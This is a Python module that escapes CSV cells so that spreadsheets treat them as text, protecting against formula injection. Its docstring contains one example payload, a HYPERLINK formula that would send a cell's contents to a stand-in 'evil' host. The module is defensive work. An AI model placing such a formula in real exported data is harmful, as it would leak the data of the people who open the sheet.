"""CSV cells a spreadsheet reads as data, never as a formula (issue 29).

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip
before looking) is a formula to Excel, LibreOffice and Google Sheets: a tenant named
`=HYPERLINK("https://evil/?"&A1)` would run in the billing clerk's sheet. Such a cell is written with a
leading `'`, the quote every spreadsheet shows as text (OWASP's "CSV injection" advice). Numbers we write
ourselves (`12.500`) never start with one of them; a negative one would, and is left alone.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def csv_cell(value: object) -> str:
    """`value` as a CSV cell that no spreadsheet evaluates."""
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row(values: list[object] | tuple[object, ...]) -> list[str]:
    return [csv_cell(v) for v in values]


__all__ = ["FORMULA_STARTS", "csv_cell", "csv_row"]
